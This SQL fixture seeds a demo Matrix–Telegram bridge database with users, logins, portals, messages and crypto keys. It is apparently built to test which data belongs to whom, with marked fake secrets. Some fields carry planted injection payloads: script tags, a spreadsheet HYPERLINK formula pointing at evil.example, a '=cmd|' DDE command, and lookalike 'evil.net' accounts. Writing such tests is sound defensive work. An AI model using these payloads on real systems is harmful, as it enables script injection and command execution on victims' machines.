-- The small demo company. planted-ada-… is Ada's, planted-grace-… Grace's, and so on; planted-secret-… may never leave;
-- planted-shared-… belongs to several. On Telegram Ada is 1001815 and 1001843, Grace 1001906, Bob 1006666, Élodie 1000004.
-- 100181 and 10018150 are other people, and the channel 1001815 is none.

INSERT INTO "user" (bridge_id, mxid, management_room, access_token) VALUES
    ('telegram', '@ada:example.org', '!planted-ada-management:example.org', 'planted-secret-ada-matrix-token'),
    ('telegram-old', '@ada:example.org', '!planted-ada-management-old:example.org', NULL),
    ('telegram', '@grace:example.org', '!planted-grace-management:example.org', NULL),
    ('telegram', '@malice:example.org', NULL, NULL),
    ('telegram', '@elodie:example.org', NULL, NULL),
    ('telegram', '@Ada:example.org', '!planted-capital-management:example.org', NULL),
    ('telegram', '@ada:example.org.evil.net', '!planted-evil-management:example.org', 'planted-secret-evil-token');

INSERT INTO user_login (bridge_id, user_mxid, id, remote_name, remote_profile, space_room, metadata) VALUES
    ('telegram', '@ada:example.org', '1001815', '+442079460815', '{"phone":"+442079460815","username":"ada_planted_ada","name":"Ada <script>alert(\"planted-ada-script\")</script> Lovelace"}', '!planted-ada-space:example.org', '{"phone":"+442079460815","session":{"auth_key":"planted-secret-ada-auth-key","dc_id":4}}'),
    ('telegram', '@ada:example.org', '1001843', 'planted-ada-second', '{"username":"planted_ada_second","name":"=HYPERLINK(\"https://evil.example/?planted-ada-formula\")"}', NULL, '{"session":{"auth_key":"planted-secret-ada-auth-key-2"}}'),
    ('telegram', '@grace:example.org', '1001906', 'planted-grace-name', '{"phone":"+442079461906","username":"planted_grace"}', NULL, '{"session":{"auth_key":"planted-secret-grace-auth-key"}}'),
    ('telegram', '@elodie:example.org', '1000004', 'planted-elodie-name', NULL, NULL, '{}'),
    ('telegram', '@ada:example.org.evil.net', '10018150', 'planted-evil-name', '{"phone":"+4420794608150","username":"planted_evil"}', NULL, '{}');

INSERT INTO ghost (bridge_id, id, name, avatar_id, avatar_hash, avatar_mxc, name_set, avatar_set, contact_info_set, is_bot, identifiers, extra_profile, metadata) VALUES
    ('telegram', '1001815', 'planted-ada-ghost', '', '', 'mxc://example.org/1001815', TRUE, TRUE, TRUE, FALSE, '["tel:+442079460815","telegram:ada_planted_ada"]', NULL, '{"is_premium":true}'),
    ('telegram', '1001843', 'planted-ada-ghost-2 🜂', '', '', 'mxc://example.org/1001843', TRUE, TRUE, TRUE, FALSE, '["telegram:planted_ada_second"]', NULL, '{}'),
    ('telegram', '1001906', 'planted-grace-ghost', '', '', 'mxc://example.org/1001906', TRUE, TRUE, TRUE, FALSE, '["tel:+442079461906"]', NULL, '{}'),
    ('telegram', '1006666', 'planted-bob-ghost', '', '', 'mxc://example.org/1006666', TRUE, TRUE, TRUE, FALSE, '[]', NULL, '{}'),
    ('telegram', '1000004', 'planted-elodie-ghost', '', '', 'mxc://example.org/1000004', TRUE, TRUE, TRUE, FALSE, '[]', NULL, '{}'),
    ('telegram', '100181', 'planted-prefix-ghost', '', '', 'mxc://example.org/100181', TRUE, TRUE, TRUE, FALSE, '[]', NULL, '{}'),
    ('telegram', '10018150', 'planted-evil-ghost', '', '', 'mxc://example.org/10018150', TRUE, TRUE, TRUE, FALSE, '[]', NULL, '{}'),
    ('telegram', '1001791', 'planted-charles-ghost', '', '', 'mxc://example.org/1001791', TRUE, TRUE, TRUE, FALSE, '["tel:+442079461791"]', NULL, '{}'),
    ('telegram', 'channel-1001815', 'planted-channel-ghost', '', '', 'mxc://example.org/channel-1001815', TRUE, TRUE, TRUE, FALSE, '["telegram:planted_channel"]', NULL, '{}');

-- Ada's: a chat with Grace, one with herself, a small group, a large group that Grace is in too. Grace's: her side of the
-- same chat, and a small group whose number Ada has as well, with another receiver.
INSERT INTO portal (bridge_id, id, receiver, mxid, parent_id, parent_receiver, relay_bridge_id, relay_login_id, other_user_id, name, topic, avatar_id, avatar_hash, avatar_mxc, name_set, avatar_set, topic_set, name_is_custom, in_space, message_request, room_type, disappear_type, disappear_timer, cap_state, metadata) VALUES
    ('telegram', 'user:1001906', '1001815', '!planted-shared-dm:example.org', NULL, '', NULL, NULL, '1001906', 'planted-shared-chat-of-two', '', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'dm', NULL, 604800000000000, NULL, '{}'),
    ('telegram', 'user:1001815', '1001815', '!planted-ada-saved:example.org', NULL, '', NULL, NULL, '1001815', 'planted-ada-saved-messages', '', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'dm', NULL, NULL, NULL, '{}'),
    ('telegram', 'chat:77', '1001815', '!planted-ada-group:example.org', NULL, '', NULL, NULL, NULL, 'planted-ada-group', '=1+1 planted-ada-topic', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'group_dm', NULL, NULL, NULL, '{}'),
    ('telegram', 'channel:500', '', '!large-group:example.org', NULL, '', 'telegram', '1001815', NULL, 'planted-shared-large-group', 'Analytical engines', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'default', NULL, NULL, NULL, '{}'),
    ('telegram', 'user:1001815', '1001906', '!planted-grace-dm:example.org', NULL, '', NULL, NULL, '1001815', 'planted-grace-chat-with-ada', '', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'dm', NULL, NULL, NULL, '{}'),
    ('telegram', 'chat:77', '1001906', '!planted-grace-group-77:example.org', NULL, '', NULL, NULL, NULL, 'planted-grace-group-77', '', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'group_dm', NULL, NULL, NULL, '{}'),
    ('telegram', 'channel:600', '', '!planted-grace-large:example.org', NULL, '', NULL, NULL, NULL, 'planted-grace-large-group', '', '', '', '', TRUE, FALSE, TRUE, FALSE, TRUE, FALSE, 'default', NULL, NULL, NULL, '{}');

INSERT INTO user_portal (bridge_id, user_mxid, login_id, portal_id, portal_receiver, in_space, preferred, last_read) VALUES
    ('telegram', '@ada:example.org', '1001815', 'user:1001906', '1001815', TRUE, TRUE, 1777681815),
    ('telegram', '@ada:example.org', '1001815', 'chat:77', '1001815', TRUE, TRUE, 1777681816),
    ('telegram', '@ada:example.org', '1001815', 'channel:500', '', TRUE, TRUE, NULL),
    ('telegram', '@grace:example.org', '1001906', 'channel:500', '', TRUE, TRUE, 1777681906),
    ('telegram', '@grace:example.org', '1001906', 'channel:600', '', TRUE, TRUE, 1777681907),
    ('telegram', '@grace:example.org', '1001906', 'user:1001815', '1001906', TRUE, TRUE, 1777681908);

-- 1 to 4 are Ada's: from Matrix, from Matrix in the large group, from her phone under the account that stands for her, and
-- with her second login. 5 is Bob's, relayed through her account. The others are not hers, though 6 and 7 were sent to her.
INSERT INTO message (rowid, bridge_id, id, part_id, mxid, room_id, room_receiver, sender_id, sender_mxid, timestamp, edit_count, double_puppeted, thread_root_id, reply_to_id, reply_to_part_id, send_txn_id, metadata) VALUES
    (1, 'telegram', '11', '', '$planted-ada-message-1', 'user:1001906', '1001815', '1001815', '@ada:example.org', 1777680001815000001, 0, NULL, NULL, NULL, NULL, NULL, '{"content_uri":"mxc://example.org/planted-ada-file"}'),
    (2, 'telegram', '500.12', '', '$planted-ada-message-2', 'channel:500', '', '1001815', '@ada:example.org', 1777680001815000002, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (3, 'telegram', '13', '', '$planted-ada-message-3', 'chat:77', '1001815', '1001815', '@telegram_1001815:example.org', 1777680001815000003, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (4, 'telegram', '500.14', '', '$planted-ada-message-4', 'channel:500', '', '1001843', '@ada:example.org', 1777680001815000004, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (5, 'telegram', '500.15', '', '$planted-shared-relayed-message', 'channel:500', '', '1001815', '@malice:example.org', 1777680001815000005, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (6, 'telegram', '16', '', '$planted-grace-message-1', 'user:1001906', '1001815', '1001906', '@telegram_1001906:example.org', 1777680001906000001, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (7, 'telegram', '500.17', '', '$planted-grace-message-2', 'channel:500', '', '1001906', '@grace:example.org', 1777680001906000002, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (8, 'telegram', '18', '', '$planted-charles-message', 'chat:77', '1001815', '1001791', '@telegram_1001791:example.org', 1777680001791000001, 0, NULL, NULL, NULL, NULL, NULL, '{}'),
    (9, 'telegram', '500.19', '', '$planted-evil-message', 'channel:500', '', '10018150', '@ada:example.org.evil.net', 1777680000000000009, 0, NULL, NULL, NULL, NULL, NULL, '{}');

INSERT INTO disappearing_message (bridge_id, mx_room, mxid, timestamp, type, timer, disappear_at) VALUES
    ('telegram', '!planted-shared-dm:example.org', '$planted-ada-message-1', 1777680001815000001, 'after_send', 604800000000000, 1778284801815000001),
    ('telegram', '!planted-shared-dm:example.org', '$planted-grace-message-1', 1777680001906000001, 'after_send', 604800000000000, NULL);

INSERT INTO reaction (bridge_id, message_id, message_part_id, sender_id, sender_mxid, emoji_id, room_id, room_receiver, mxid, timestamp, emoji, metadata) VALUES
    ('telegram', '16', '', '1001815', '@ada:example.org', '👍', 'user:1001906', '1001815', '$planted-ada-reaction-1', 1777680001815000011, '👍', '{}'),
    ('telegram', '500.17', '', '1001815', '', '5368324170671202286', 'channel:500', '', '$planted-ada-reaction-2', 1777680001815000012, ':planted-ada-emoji:', '{}'),
    ('telegram', '11', '', '1001906', '@telegram_1001906:example.org', '🦋', 'user:1001906', '1001815', '$planted-grace-reaction-1', 1777680001906000011, '🦋', '{}'),
    ('telegram', '500.12', '', '1001906', '@grace:example.org', '👍', 'channel:500', '', '$planted-grace-reaction-2', 1777680001906000012, '👍', '{}');

INSERT INTO backfill_task (bridge_id, portal_id, portal_receiver, user_login_id, batch_count, is_done, queue_done, cursor, oldest_message_id, dispatched_at, completed_at, next_dispatch_min_ts) VALUES
    ('telegram', 'chat:77', '1001815', '1001815', 1815, TRUE, TRUE, NULL, NULL, NULL, 1777680001815000000, 0),
    ('telegram', 'channel:500', '', '1001815', 1816, FALSE, FALSE, NULL, NULL, NULL, NULL, 0),
    ('telegram', 'channel:600', '', '1001906', 1906, TRUE, TRUE, NULL, NULL, NULL, NULL, 0);

-- Only numbers from here to telegram_access_hash: Ada's rows have the user 1001815 or 1001843.
INSERT INTO telegram_user_state (user_id, pts, qts, date, seq) VALUES
    (1001815, 18151, 1, 1777681815, 1),
    (1001843, 18431, 1, 1777681843, 1),
    (1001906, 19061, 1, 1777681906, 1),
    (10018150, 99, 1, 1777680000, 1);

INSERT INTO telegram_channel_state (user_id, channel_id, pts) VALUES
    (1001815, 500, 18152),
    (1001815, 1001815, 18153),
    (1001906, 500, 19062),
    (1001906, 1001815, 19063);

INSERT INTO telegram_access_hash (user_id, entity_type, entity_id, access_hash) VALUES
    (1001815, 'user', 1001906, 777000000000001815),
    (1001815, 'channel', 500, -777000000000001816),
    (1001906, 'user', 1001815, 777000000000001906);

INSERT INTO telegram_username (username, entity_type, entity_id) VALUES
    ('ada_planted_ada', 'user', 1001815),
    ('planted_ada_second', 'user', 1001843),
    ('planted_channel', 'channel', 1001815),
    ('planted_grace', 'user', 1001906),
    ('planted_evil', 'user', 10018150);

INSERT INTO telegram_phone_number (phone_number, entity_id) VALUES
    ('442079460815', 1001815),
    ('442079461906', 1001906),
    ('442079461791', 1001791),
    ('4420794608150', 10018150);

INSERT INTO mx_user_profile (room_id, user_id, membership, displayname, avatar_url, name_skeleton) VALUES
    ('!planted-shared-dm:example.org', '@ada:example.org', 'join', 'Ada <b>planted-ada-profile</b>', 'mxc://example.org/planted-ada-avatar', NULL),
    ('!large-group:example.org', '@ada:example.org', 'join', 'planted-ada-profile-2', '', NULL),
    ('!large-group:example.org', '@grace:example.org', 'join', 'planted-grace-profile', '', NULL),
    ('!large-group:example.org', '@malice:example.org', 'leave', 'planted-bob-profile', '', NULL),
    ('!large-group:example.org', '@ada:example.org.evil.net', 'ban', 'planted-evil-profile', '', NULL),
    ('!large-group:example.org', '@Ada:example.org', 'invite', 'planted-capital-profile', '', NULL);

INSERT INTO crypto_device (user_id, device_id, identity_key, signing_key, trust, deleted, name) VALUES
    ('@ada:example.org', 'planted-ada-DEV1', 'planted-ada-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-signkey1AAAAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'Ada''s phone <script>alert("planted-ada-device")</script>'),
    ('@ada:example.org', 'planted-ada-DEV2', 'planted-ada-idkey2AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-signkey2AAAAAAAAAAAAAAAAAAAAAAA', 1, TRUE, '=cmd|''/C planted-ada-device''!A1'),
    ('@grace:example.org', 'planted-grace-DEV1', 'planted-grace-idkey1AAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-signkey1AAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-grace-device'),
    ('@malice:example.org', 'planted-bob-DEV1', 'planted-bob-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-bob-signkey1AAAAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-bob-device'),
    ('@Ada:example.org', 'planted-capital-DEV1', 'planted-capital-idkey1AAAAAAAAAAAAAAAAAAAAA', 'planted-capital-signkey1AAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-capital-device'),
    ('@ada:example.org.evil.net', 'planted-evil-DEV1', 'planted-evil-idkey1AAAAAAAAAAAAAAAAAAAAAAAA', 'planted-evil-signkey1AAAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-evil-device');

-- sender_key is the identity key of the device above; the session itself is the word "secret" in bytes.
INSERT INTO crypto_olm_session (account_id, session_id, sender_key, session, created_at, last_decrypted, last_encrypted) VALUES
    ('@telegrambot:example.org', 'planted-ada-olm1AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-01 10:00:00', '2026-03-01 10:00:00', '2026-03-01 10:00:00'),
    ('@telegrambot:example.org', 'planted-ada-olm2AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-idkey2AAAAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-02 10:00:00', '2026-03-02 10:00:00', '2026-03-02 10:00:00'),
    ('@telegrambot:example.org', 'planted-grace-olm1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-idkey1AAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-01 10:00:00', '2026-03-01 10:00:00', '2026-03-01 10:00:00'),
    ('@telegrambot:example.org', 'planted-bob-olm1AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-bob-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-01 10:00:00', '2026-03-01 10:00:00', '2026-03-01 10:00:00');

INSERT INTO crypto_tracked_user (user_id, devices_outdated) VALUES
    ('@ada:example.org', FALSE),
    ('@grace:example.org', FALSE),
    ('@malice:example.org', FALSE),
    ('@Ada:example.org', FALSE),
    ('@ada:example.org.evil.net', FALSE);

INSERT INTO crypto_cross_signing_keys (user_id, usage, key, first_seen_key) VALUES
    ('@ada:example.org', 'master', 'planted-ada-masterAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-first-masterAAAAAAAAAAAAAAAAAAA'),
    ('@ada:example.org', 'self_signing', 'planted-ada-self_signingAAAAAAAAAAAAAAAAAAA', 'planted-ada-first-self_signingAAAAAAAAAAAAA'),
    ('@grace:example.org', 'master', 'planted-grace-masterAAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-first-masterAAAAAAAAAAAAAAAAA'),
    ('@malice:example.org', 'master', 'planted-bob-masterAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-bob-first-masterAAAAAAAAAAAAAAAAAAA'),
    ('@Ada:example.org', 'master', 'planted-capital-masterAAAAAAAAAAAAAAAAAAAAA', 'planted-capital-first-masterAAAAAAAAAAAAAAA');

-- The second says that Grace signed Ada's key: it is about both. The third is the reverse.
INSERT INTO crypto_cross_signing_signatures (signed_user_id, signed_key, signer_user_id, signer_key, signature) VALUES
    ('@ada:example.org', 'planted-ada-masterAAAAAAAAAAAAAAAAAAAAAAAAA', '@ada:example.org', 'planted-ada-DEV1', 'planted-ada-sig-selfAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@ada:example.org', 'planted-shared-ada-masterAAAAAAAAAAAAAAAAAA', '@grace:example.org', 'planted-shared-key-of-graceAAAAAAAAAAAAAAAA', 'planted-shared-sig-by-graceAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@grace:example.org', 'planted-shared-grace-masterAAAAAAAAAAAAAAAA', '@ada:example.org', 'planted-shared-key-of-adaAAAAAAAAAAAAAAAAAA', 'planted-shared-sig-by-adaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@grace:example.org', 'planted-grace-masterAAAAAAAAAAAAAAAAAAAAAAA', '@grace:example.org', 'planted-grace-DEV1', 'planted-grace-sig-selfAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');

INSERT INTO crypto_megolm_outbound_session_shared (user_id, identity_key, session_id) VALUES
    ('@ada:example.org', 'planted-ada-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-megolm1AAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@ada:example.org', 'planted-ada-idkey2AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-megolm1AAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@grace:example.org', 'planted-grace-idkey1AAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-megolm1AAAAAAAAAAAAAAAAAAAAAA');
